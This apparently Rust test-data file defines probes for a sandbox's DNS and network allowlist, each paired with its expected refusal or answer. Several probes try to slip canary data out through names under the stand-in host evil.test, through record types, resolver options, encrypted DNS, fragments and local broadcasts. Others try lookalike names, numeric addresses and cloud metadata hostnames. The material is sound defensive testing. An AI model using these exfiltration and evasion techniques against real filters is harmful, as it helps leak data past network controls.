//! Names: those that look like what is allowed, and what can be done with questions.

use super::{Attempt, NONE, told};

/// What the name server knows, whoever asks.
pub const ZONES: &[(&str, &[&[&str]])] = &[
    ("api.allowed.test", &[&["93.184.216.10", "2a00:1450::10"]]),
    ("port.allowed.test", &[&["93.184.216.14"]]),
    ("literal.allowed.test", &[&["93.184.216.11"]]),
    ("time.allowed.test", &[&["93.184.216.12"]]),
    ("evil.test", &[&["93.184.216.66"]]),
    ("*.evil.test", &[&["93.184.216.66"]]),
    ("glob.test", &[&["93.184.216.66"]]),
    ("xglob.test", &[&["93.184.216.66"]]),
    ("*.glob.test", &[&["93.184.216.20"]]),
    ("*.b.glob.test", &[&["93.184.216.21"]]),
    ("dns.google", &[&["8.8.8.8"]]),
];

const REFUSED: &str = "REFUSED host_not_allowed";

pub const HOSTS: &[Attempt] = &[
    Attempt {
        id: "A1",
        what: "an address of the internet, by nothing but itself",
        code: "seen = each((port, tcp('93.184.216.66', port)) for port in (22, 853, 7000))",
        seen: "all ECONNREFUSED",
        told: &[told("tcp", "93.184.216.66:7000", "host_not_allowed")],
        ..NONE
    },
    Attempt {
        id: "A2",
        what: "the address of an allowed host, which nobody has asked for",
        code: "seen = tcp('93.184.216.11', 7000)",
        seen: "ECONNREFUSED",
        told: &[told("tcp", "93.184.216.11:7000", "host_not_allowed")],
        ..NONE
    },
    Attempt {
        id: "A2",
        what: "the same once its name was asked for",
        code: "seen = (ask('literal.allowed.test'), tcp('93.184.216.11', 7000))",
        seen: "('NOERROR 93.184.216.11', 'hello 93.184.216.11:7000')",
        told: &[told("dns", "literal.allowed.test", "allowed")],
        contacts: &["dns literal.allowed.test A", "tcp 93.184.216.11:7000"],
        ..NONE
    },
    Attempt {
        id: "A13",
        what: "a NUL, a dot or a blank inside of a label",
        code: "\
seen = each((name, asked(question(name))) for name in (
    [b'evil.test\\0', b'glob', b'test'], [b'api.allowed', b'test'], [b'api', b'allowed.test'],
    [b'a b', b'glob', b'test'], [b'a\\t', b'glob', b'test'], [b'a\\r\\n', b'glob', b'test'],
    [b'a/', b'glob', b'test'], [b'a:80', b'glob', b'test'], [b'a@b', b'glob', b'test'],
    [b'*', b'glob', b'test']))",
        seen: "all NXDOMAIN ambiguous_request",
        told: &[told("dns", "glob.test", "ambiguous_request")],
        ..NONE
    },
    Attempt {
        id: "A14",
        what: "names that end or begin as an allowed one",
        code: "\
seen = each((name, ask(name)) for name in (
    'xapi.allowed.test', 'api.allowed.test.evil.test', 'x.api.allowed.test', 'allowed.test',
    'apiallowed.test', 'xglob.test', 'x-glob.test', 'a.glob.test.evil.test', 'a.glob.tes',
    'api.allowed.testx', 'test', 'a.globxtest'))",
        seen: "all REFUSED host_not_allowed",
        told: &[
            told("dns", "xapi.allowed.test", "host_not_allowed"),
            told("dns", "xglob.test", "host_not_allowed"),
        ],
        ..NONE
    },
    Attempt {
        id: "A15",
        what: "what a glob ends in, without anything before it",
        code: "seen = ask('glob.test')",
        seen: REFUSED,
        told: &[told("dns", "glob.test", "host_not_allowed")],
        ..NONE
    },
    Attempt {
        id: "A15",
        what: "two labels before what a glob ends in, which it means",
        code: "seen = ask('a.b.glob.test')",
        seen: "NOERROR 93.184.216.21",
        told: &[told("dns", "a.b.glob.test", "allowed")],
        contacts: &["dns a.b.glob.test A"],
        ..NONE
    },
    Attempt {
        id: "A16",
        what: "an allowed name in capitals",
        code: "seen = (ask('API.Allowed.TEST.'), tcp('93.184.216.10', 7000))",
        seen: "('NOERROR 93.184.216.10', 'hello 93.184.216.10:7000')",
        told: &[told("dns", "api.allowed.test", "allowed")],
        contacts: &["dns api.allowed.test A", "tcp 93.184.216.10:7000"],
        ..NONE
    },
    Attempt {
        id: "A17",
        what: "letters, dots and hyphens that look like those of ASCII",
        code: "\
seen = each((name, ask(name)) for name in (
    'api\\uff0eallowed.test', '\\uff41pi.allowed.test', 'a\\u00adpi.allowed.test',
    '\\u0430pi.allowed.test', 'api\\u3002allowed\\u3002test', 'api%2eallowed.test',
    'api.allowed.test%00', 'api.allowed\\u200b.test'))",
        seen: "all NXDOMAIN ambiguous_request",
        ..NONE
    },
    Attempt {
        id: "A17",
        what: "the same as a program encodes them, and what they are not",
        code: "\
seen = each((name, ask(name)) for name in (
    'xn--pi-7lc.allowed.test', 'xn--pi-3ub.allowed.test', 'api.xn--llowed-4ve.test',
    'api.allowed.xn--tst-qla', 'xn--api.allowed.test', 'xn--.allowed.test'))
seen = 'refused' if 'NOERROR' not in seen else seen",
        seen: "refused",
        ..NONE
    },
    Attempt {
        id: "A18",
        what: "addresses as numbers, octal, hexadecimal and short, asked for",
        code: "\
seen = each((name, ask(name)) for name in (
    '2130706433', '0177.0.0.1', '127.1', '0x7f.1', '0x7f000001', '93.184.216.10',
    '1.glob.0x7f', '017700000001', 'a.glob.test.1'))",
        seen: "all NXDOMAIN ambiguous_request",
        ..NONE
    },
    Attempt {
        id: "A18",
        what: "a name that is allowed and looks like an address",
        code: "seen = ask('127.0.0.1.glob.test')",
        seen: "NOERROR 93.184.216.20",
        contacts: &["dns 127.0.0.1.glob.test A"],
        ..NONE
    },
    Attempt {
        id: "A19",
        what: "names that stand for the host, or for a cloud's own",
        code: "\
seen = each((name, ask(name, kind)) for kind in ('A', 'AAAA') for name in (
    'localhost', 'a.localhost', 'host.docker.internal', 'gateway.docker.internal',
    'metadata.google.internal', 'metadata', 'instance-data', 'kubernetes.default.svc',
    'gateway', '_gateway', 'host.containers.internal', 'wpad', 'isatap'))",
        seen: "all REFUSED host_not_allowed",
        told: &[told("dns", "metadata.google.internal", "host_not_allowed")],
        ..NONE
    },
    Attempt {
        id: "A20",
        what: "names that are too long, of labels that are, and of nothing",
        code: "\
long, most = 'a' * 63 + '.', 'glob.test'
def raw(wire):
    return asked(question('x').replace(b'\\1x\\0', wire))
results = [
    ask(long * 3 + 'a' * 50 + '.' + most),
    raw(b'\\77' + b'a' * 63 + b'\\100' + b'a' * 64 + b'\\4glob\\4test\\0'),
    raw(b'\\77' + b'a' * 63 + (b'\\77' + b'a' * 63) * 4 + b'\\4glob\\4test\\0'),
    raw(b'\\0'), ask('.'), raw(b'\\200'), raw(b'\\377' * 255)]
seen = [result.split()[0] for result in results]",
        seen: "['REFUSED', 'FORMERR', 'FORMERR', 'REFUSED', 'REFUSED', 'FORMERR', 'FORMERR']",
        ..NONE
    },
    Attempt {
        id: "A20",
        what: "a hyphen at the end of a label, and an underscore: names that are",
        code: "\
seen = each((name, ask(name)) for name in ('a-.glob.test', '_a.glob.test', 'a--b.glob.test'))
seen += ', ' + ask('-a.glob.test')",
        seen: "all NOERROR 93.184.216.20, NXDOMAIN",
        contacts: &[
            "dns a-.glob.test A",
            "dns _a.glob.test A",
            "dns a--b.glob.test A",
        ],
        ..NONE
    },
];

pub const DNS: &[Attempt] = &[
    Attempt {
        id: "C1",
        what: "data in names of a host that is not allowed",
        code: "\
seen = each(((kind, number), ask('c4n4ry%d.evil.test' % number, kind))
            for number in range(20) for kind in ('A', 'AAAA', 'TXT', 'CNAME'))",
        seen: "all REFUSED host_not_allowed",
        told: &[told("dns", "c4n4ry7.evil.test", "host_not_allowed")],
        ..NONE
    },
    Attempt {
        id: "C2",
        what: "data before a name that is allowed by itself",
        code: "seen = each((kind, ask('c4n4ry.api.allowed.test', kind)) for kind in ('A', 'AAAA', 'TXT'))",
        seen: "all REFUSED host_not_allowed",
        told: &[told("dns", "c4n4ry.api.allowed.test", "host_not_allowed")],
        ..NONE
    },
    Attempt {
        id: "C4",
        what: "types that carry data, of an allowed name",
        code: "\
seen = each((kind, ask('api.allowed.test', kind)) for kind in (
    'TXT', 'SRV', 'NAPTR', 'MX', 'CNAME', 'SVCB', 'HTTPS', 'NS', 'SOA', 'DNAME', 'LOC', 'SSHFP',
    'TLSA', 'URI', 'CAA', 'PTR'))",
        seen: "all NOERROR",
        ..NONE
    },
    Attempt {
        id: "C4",
        what: "types that mean everything, of an allowed name",
        code: "\
seen = each((kind, ask('api.allowed.test', kind)) for kind in ('NULL', 'ANY', 'AXFR', 'IXFR'))",
        seen: "all REFUSED blocked_by_rule",
        told: &[told("dns", "api.allowed.test", "blocked_by_rule")],
        ..NONE
    },
    Attempt {
        id: "C4",
        what: "classes of their own, for versions of servers",
        code: "\
seen = each((klass, asked(question('version.bind', 'TXT', klass=klass))) for klass in (3, 4, 254, 255))",
        seen: "all REFUSED blocked_by_rule",
        ..NONE
    },
    Attempt {
        id: "C5",
        what: "other name servers, for a name that is not allowed",
        code: "\
seen = each((server, ask('c4n4ry.evil.test', server=server)) for server in (
    '8.8.8.8', '1.1.1.1', '9.9.9.9', '10.0.0.1', '169.254.169.253', '93.184.216.10', '2001:4860:4860::8888', GATEWAY6))",
        seen: "all REFUSED host_not_allowed",
        ..NONE
    },
    Attempt {
        id: "C5",
        what: "the same for one that is: ours answers",
        code: "\
seen = each((server, ask('api.allowed.test', server=server)) for server in (
    '8.8.8.8', '10.0.0.1', '2001:4860:4860::8888', GATEWAY6))",
        seen: "all NOERROR 93.184.216.10",
        contacts: &["dns api.allowed.test A"],
        ..NONE
    },
    Attempt {
        id: "C6",
        what: "by TCP, several questions in one piece, to any server",
        code: "\
messages = [question('c4n4ry.evil.test'), question('api.allowed.test'), question('c4n4ry.evil.test', 'TXT')]
seen = each((server, str(ask_tcp(messages, server))) for server in (GATEWAY, '8.8.8.8', '2001:4860:4860::8888'))",
        seen: "all ['REFUSED host_not_allowed', 'NOERROR 93.184.216.10', 'REFUSED host_not_allowed']",
        told: &[told("dns", "c4n4ry.evil.test", "host_not_allowed")],
        contacts: &["dns api.allowed.test A"],
        ..NONE
    },
    Attempt {
        id: "C6",
        what: "a question in fragments",
        code: "\
whole = datagram('8.8.8.8', 53, question('c4n4ry.evil.test'))
cut = [frame(packet(17, '8.8.8.8', whole[:24], part=0x2000, number=7)),
       frame(packet(17, '8.8.8.8', whole[24:], part=3, number=7))]
seen = heard(cut, 0x0800, 17)",
        seen: "0",
        waits: true,
        ..NONE
    },
    Attempt {
        id: "C6",
        what: "by TCP, what is no question",
        code: "\
def stream(data):
    with socket.create_connection((GATEWAY, 53), PATIENCE) as peer:
        peer.sendall(data)
        try:
            return len(peer.recv(100)) and 'answered' or 'ended'
        except OSError as problem:
            return error(problem)
seen = each((data[:4], stream(data)) for data in (
    b'\\0\\0', b'\\xff\\xff' + b'x' * 5000, b'\\0\\5c4n4r', b'GET / HTTP/1.1\\r\\n\\r\\n', b'SSH-2.0-c4n4ry\\r\\n'))
seen = 'nothing was answered' if 'answered' not in seen else seen",
        seen: "nothing was answered",
        waits: true,
        ..NONE
    },
    Attempt {
        id: "C7",
        what: "DNS over TLS, to others and to the gateway",
        code: "seen = each((to, tcp(to, 853)) for to in ('8.8.8.8', '1.1.1.1', GATEWAY, GATEWAY6))",
        seen: "all ECONNREFUSED",
        told: &[told("tcp", "8.8.8.8:853", "host_not_allowed")],
        ..NONE
    },
    Attempt {
        id: "C8",
        what: "DNS over HTTPS: names of those who have it",
        code: "\
seen = each((name, ask(name)) for name in (
    'dns.google', 'cloudflare-dns.com', 'dns.quad9.net', 'mozilla.cloudflare-dns.com', 'doh.opendns.com'))",
        seen: "all REFUSED host_not_allowed",
        told: &[told("dns", "dns.google", "host_not_allowed")],
        ..NONE
    },
    Attempt {
        id: "C9",
        what: "DNS over QUIC",
        code: "\
seen = each(((to, port), udp(to, port)) for to in ('8.8.8.8', '93.184.216.10', GATEWAY)
            for port in (853, 8853, 784, 443))",
        seen: "all EHOSTUNREACH",
        told: &[told("udp", "8.8.8.8:853", "host_not_allowed")],
        ..NONE
    },
    Attempt {
        id: "C10",
        what: "data in options of a question: subnets, cookies, padding",
        code: "\
options = (option(8, b'\\0\\1\\40\\0c4n4') + option(10, b'c4n4ry00') + option(12, b'c4n4ry' * 20)
           + option(65001, b'c4n4ry') + option(15, b'\\0\\0c4n4ry') + option(11, b'\\0\\1'))
seen = [ask('o%d.glob.test' % number, kind, options=options)
        for number, kind in ((1, 'A'), (2, 'AAAA'))] + [ask('c4n4ry.evil.test', options=options)]",
        seen: "['NOERROR 93.184.216.20', 'NOERROR', 'REFUSED host_not_allowed']",
        contacts: &["dns o1.glob.test A", "dns o2.glob.test AAAA"],
        ..NONE
    },
    Attempt {
        id: "C11",
        what: "loops of names, wrong numbers of questions, other operations",
        code: "\
good = question('api.allowed.test')
def with_counts(*counts):
    return good[:4] + struct.pack('>HHHH', *counts) + good[12:]
loop = good[:12] + b'\\xc0\\x0c\\0\\1\\0\\1'
ahead = good[:12] + b'\\1a\\xc0\\x0e\\0\\1\\0\\1'
results = [asked(message) for message in (
    loop[:4] + b'\\0\\1\\0\\0\\0\\0\\0\\0' + loop[12:], ahead[:4] + b'\\0\\1\\0\\0\\0\\0\\0\\0' + ahead[12:],
    with_counts(0, 0, 0, 1), with_counts(2, 0, 0, 1), with_counts(65535, 0, 0, 1),
    with_counts(1, 1, 0, 0), with_counts(1, 0, 1, 0), with_counts(1, 0, 0, 9), good[:20], good[:12])]
results += [asked(question('api.allowed.test', flags=code << 11)) for code in (1, 2, 4, 5, 6, 15)]
seen = [result.split()[0] for result in results]",
        seen: "['FORMERR', 'FORMERR', 'FORMERR', 'FORMERR', 'FORMERR', 'FORMERR', 'FORMERR', \
               'FORMERR', 'FORMERR', 'FORMERR', \
               'NOTIMP', 'NOTIMP', 'NOTIMP', 'NOTIMP', 'NOTIMP', 'NOTIMP']",
        ..NONE
    },
    Attempt {
        id: "C11",
        what: "data behind a question",
        code: "seen = asked(question('behind.glob.test') + CANARY * 50)",
        seen: "NOERROR 93.184.216.20",
        contacts: &["dns behind.glob.test A"],
        ..NONE
    },
    Attempt {
        id: "C12",
        what: "what is no question, to port 53 of anybody",
        code: "\
seen = each((to, asked(data, to, MOMENT)) for to in ('8.8.8.8', GATEWAY, '93.184.216.10')
            for data in (b'c', b'c4n4ry c4', b'\\0\\1\\x80\\0' + b'c4n4ry' * 10))",
        seen: "all silence",
        waits: true,
        ..NONE
    },
    Attempt {
        id: "C13",
        what: "data in capitals of an allowed name",
        code: "seen = (ask('D4t4.gLoB.TeSt'), ask('aPi.AlLoWeD.tEsT'))",
        seen: "('NOERROR 93.184.216.20', 'NOERROR 93.184.216.10')",
        contacts: &["dns d4t4.glob.test A", "dns api.allowed.test A"],
        ..NONE
    },
    Attempt {
        id: "C15",
        what: "names and services of the local network",
        code: "\
seen = each((peer, udp(*peer, wait=MOMENT)) for peer in (
    ('224.0.0.251', 5353), ('224.0.0.252', 5355), ('239.255.255.250', 1900)))
seen += ', ' + each((peer, udp(*peer)) for peer in ((GATEWAY, 5353), (GATEWAY, 5355), (GATEWAY, 137),
    (GATEWAY, 1900), (GATEWAY, 5351), ('93.184.216.10', 5353), ('93.184.216.10', 137)))
link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
link.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
for to in ('255.255.255.255', '198.18.0.3'):
    link.sendto(CANARY, (to, 137))",
        seen: "all silence, all EHOSTUNREACH",
        told: &[told("udp", "198.18.0.1:5353", "host_not_allowed")],
        waits: true,
        ..NONE
    },
];

/// What uses up what there is of questions: last of all.
pub const LIMITS: &[Attempt] = &[
    Attempt {
        id: "C3",
        what: "data in names that a glob allows: long ones",
        code: "\
data = '.'.join(['c4n4ry' * 8] * 3)
seen = each((kind, ask(data + '.glob.test', kind)) for kind in ('A', 'AAAA', 'TXT'))",
        seen: "all REFUSED host_not_allowed",
        ..NONE
    },
    Attempt {
        id: "C3",
        what: "and 400 short ones",
        code: "\
results = [ask('x%d.b.glob.test' % number, 'TXT') for number in range(400)]
passed = sum(result.startswith('NOERROR') for result in results)
seen = 'few pass' if passed < 200 and results.count('REFUSED host_not_allowed') == 400 - passed else results",
        seen: "few pass",
        told: &[told("dns", ".b.glob.test", "host_not_allowed")],
        waits: true,
        ..NONE
    },
];
